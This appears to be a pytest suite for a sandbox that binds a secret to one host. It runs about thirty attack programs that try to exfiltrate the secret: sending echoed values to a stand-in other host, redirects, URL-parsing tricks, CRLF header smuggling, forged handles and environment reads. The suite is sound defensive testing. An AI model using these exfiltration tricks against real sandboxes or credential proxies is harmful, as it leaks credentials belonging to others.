"""Programs that want a secret's value, or to send it elsewhere, with a gate that allows everything.

What must hold without any gate: the value is only ever in the one header, at the host that it is
bound to, and the program never gets it back.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from sandbox.pool import SandboxPool
from sandbox.secrets import Binding, BoundHost
from tests.sandbox.loopback import Loopback, serve
from tests.sandbox.test_secrets import VALUE, OneSecret, run


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """A program; `BOUND` is the host's address, `OTHER` another's; `goes`: uses that are right."""

    name: str
    program: str
    goes: int = 0


ATTACKS = [
    Attack(name="echo, file, other host", goes=1, program="""
r = http_request("GET", "BOUND/echo", auth=secret("github"))
open("a.txt", "w").write(r["text"])
http_request("GET", "OTHER/?" + open("a.txt").read().split()[-1])
"""),
    Attack(name="echo, bytes, other host", goes=1, program="""
r = http_request("GET", "BOUND/echo", auth=secret("github"))
http_request("POST", "OTHER/", body=r["data"])
"""),
    Attack(name="echo in a header, other host", goes=1, program="""
r = http_request("GET", "BOUND/echo", auth=secret("github"))
http_request("GET", "OTHER/", {"X-Found": r["headers"]["x-echo"]})
"""),
    Attack(name="redirect away", goes=1, program="""
http_request("GET", "BOUND/away", auth=secret("github"))
"""),
    Attack(name="redirect away and back", goes=1, program="""
http_request("GET", "BOUND/there-and-back", auth=secret("github"))
"""),
    Attack(name="redirect with the value", goes=1, program="""
http_request("GET", "BOUND/carry", auth=secret("github"))
"""),
    Attack(name="handle as a header", program="""
http_request("GET", "OTHER/", {"Authorization": secret("github")})
"""),
    Attack(name="handle as text in a header", program="""
http_request("GET", "OTHER/", {"Authorization": str(secret("github"))})
"""),
    Attack(name="handle as a body", program="""
http_request("POST", "OTHER/", body=secret("github"))
"""),
    Attack(name="handle in an address", program="""
http_request("GET", f"OTHER/{secret('github')}")
"""),
    Attack(name="another host", program="""
http_request("GET", "OTHER/", auth=secret("github"))
"""),
    Attack(name="user part of an address", program="""
http_request("GET", "http://127.0.0.1:PORT@localhost:PORT/", auth=secret("github"))
"""),
    Attack(name="fragment", program="""
http_request("GET", "OTHER/#@127.0.0.1:PORT/", auth=secret("github"))
"""),
    Attack(name="backslash", program=r"""
http_request("GET", "http://localhost:PORT\\@127.0.0.1:PORT/", auth=secret("github"))
"""),
    Attack(name="longer name", program="""
http_request("GET", "http://127.0.0.1.localhost:PORT/", auth=secret("github"))
"""),
    Attack(name="another port", program="""
http_request("GET", "http://127.0.0.1:1/", auth=secret("github"))
"""),
    Attack(name="line break in a header", program=r"""
http_request("GET", "BOUND/", {"X": "a\r\nHost: localhost"}, auth=secret("github"))
"""),
    Attack(name="header of its own beside it", program="""
http_request("GET", "BOUND/", {"authorization": "x"}, auth=secret("github"))
"""),
    Attack(name="host header", program="""
http_request("GET", "BOUND/", {"Host": "localhost"}, auth=secret("github"))
"""),
    Attack(name="method that is not allowed", program="""
http_request("DELETE", "BOUND/", auth=secret("github"))
"""),
    Attack(name="method in small letters", program="""
http_request("post", "BOUND/", auth=secret("github"))
"""),
    Attack(name="handle of the program's own class, another host", program="""
class Secret:
    def __init__(self):
        self.name = "github"
http_request("GET", "OTHER/", auth=Secret())
"""),
    Attack(name="handle of the program's own class, another name", program="""
class Secret:
    def __init__(self):
        self.name = "root"
http_request("GET", "BOUND/", auth=Secret())
"""),
    Attack(name="changed handle", program="""
h = secret("github")
h.name = "root"
http_request("GET", "OTHER/", auth=h)
"""),
    Attack(name="subclass", program="""
class Mine:
    def __init__(self, inner):
        self.inner = inner
http_request("GET", "BOUND/", auth=Mine(secret("github")))
"""),
    Attack(name="error message", goes=1, program="""
try:
    r = http_request("GET", "BOUND/echo", auth=secret("github"))
    raise ValueError(r["text"] + str(r["data"]))
except ValueError as error:
    http_request("GET", "OTHER/", {"X-Error": str(error)[:500]})
"""),
    Attack(name="letter by letter", goes=1, program="""
r = http_request("GET", "BOUND/echo", auth=secret("github"))
for letter in r["text"]:
    print(letter, end="")
"""),
    Attack(name="environment", program="""
import os
print(dict(os.environ), os.getenv("github"))
"""),
    Attack(name="at once", goes=2, program="""
import asyncio
h = secret("github")
found = await asyncio.gather(
    http_request("GET", "BOUND/echo", auth=h), http_request("GET", "BOUND/echo", auth=h)
)
print(found)
"""),
]  # fmt: skip


@pytest.fixture(scope="module")
def pool() -> Iterator[SandboxPool]:
    made = SandboxPool()
    made.start()
    yield made
    made.close()


@pytest.fixture
def server() -> Iterator[Loopback]:
    with serve() as loopback:
        loopback.page("/echo", f"you sent {VALUE}", headers=(("X-Echo", VALUE),))
        other = loopback.url("", host="localhost")
        loopback.page("/away", status=302, headers=(("Location", f"{other}/end"),))
        loopback.page("/carry", status=302, headers=(("Location", f"{other}/?t={VALUE}"),))
        loopback.page("/there-and-back", status=302, headers=(("Location", f"{other}/back"),))
        home = loopback.url("/end")
        loopback.page("/back", status=302, headers=(("Location", home),))
        yield loopback


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_the_value_goes_to_its_host_alone_and_comes_back_to_nobody(
    attack: Attack, tmp_path: Path, pool: SandboxPool, server: Loopback
) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    bound = BoundHost(name="127.0.0.1", port=server.port)
    secrets = OneSecret(Binding(name="github", hosts=(bound,), methods=("GET", "HEAD")))
    source = attack.program.replace("BOUND", server.url("").rstrip("/"))
    source = source.replace("OTHER", f"http://localhost:{server.port}")
    outcome = run(source.replace("PORT", str(server.port)), folder, pool, secrets)

    told = f"{outcome.printed} {outcome.value} {outcome.fault} {outcome.notes} {outcome.effects}"
    assert not secrets.holds(told)
    uses = 0
    for method, path, headers, body in server.seen:
        taken = headers.pop("authorization", "")
        assert not secrets.holds(f"{method} {path} {headers}".encode() + body)
        if secrets.holds(taken):
            uses += 1
            assert taken == f"Bearer {VALUE}"
            assert headers["host"] == f"127.0.0.1:{server.port}"
            assert method == "GET"
    assert uses == attack.goes
